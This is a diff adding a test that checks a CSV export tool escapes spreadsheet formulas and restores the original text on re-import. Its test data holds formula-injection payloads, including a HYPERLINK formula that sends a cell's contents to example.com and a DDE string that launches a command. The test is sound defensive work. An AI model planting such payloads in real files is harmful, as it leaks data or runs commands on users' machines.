@@ -59,6 +59,30 @@ it.each(['calls.csv', 'calls.jsonl'])('outcomes pull and push to %s and back cha
   expect(body).toEqual({ ...before, outcomeUpdatedAt: body.outcomeUpdatedAt, outcomeHistory: body.outcomeHistory });
 });
 
+it('outcomes pull writes no formula of a spreadsheet, and push reads each text as it was', async () => {
+  const world = await newWorld();
+  const { agentId, apiKey } = world;
+  const labels = ['=HYPERLINK("http://example.com/?"&A1,"ok")', "'=1+1", "''-1", "'quoted'", '+1', '＝1+1', '-'];
+  for (const [index, label] of labels.entries()) {
+    await world.recordCall(`-c${index}`, { status: "=cmd|'/C calc'!A0" });
+    const body = { custom_call_outcome: label, custom_call_outcome_value: -5 };
+    await world.call('PATCH', `/calls/${agentId}/-c${index}`, { body });
+  }
+  const file = fileOf('calls.csv', '');
+  await pull(file, { baseUrl, apiKey, flags: ['--agent-id', agentId] });
+  const cells = rowsOf(file).flatMap(({ callIdOrPhone, custom_call_outcome, status }) => [
+    ...[callIdOrPhone, custom_call_outcome, status],
+  ]);
+  expect(cells.filter((cell) => /^([=\-@＝]|\+(?!\d+$))/.test(cell ?? ''))).toEqual([]);
+  for (const index of labels.keys())
+    await world.call('PATCH', `/calls/${agentId}/-c${index}`, { body: { custom_call_outcome: 'other' } });
+  expect(await push(file, { baseUrl, apiKey })).toMatchObject({ code: 0, stderr: '' });
+  const bodies = await Promise.all(labels.keys().map(async (index) => (await callOf(world, `-c${index}`)).body));
+  expect(bodies.map((body) => [body.custom_call_outcome, body.custom_call_outcome_value])).toEqual(
+    labels.map((label) => [label, -5]),
+  );
+});
+
 it('outcomes pull without an agent writes the calls of all agents, if the key may list them', async () => {
   const world = await worldWithCalls();
   const { agentId: second } = (await world.call('POST', '/agents', { body: { uid: world.uid, name: 'Second' } })).body;
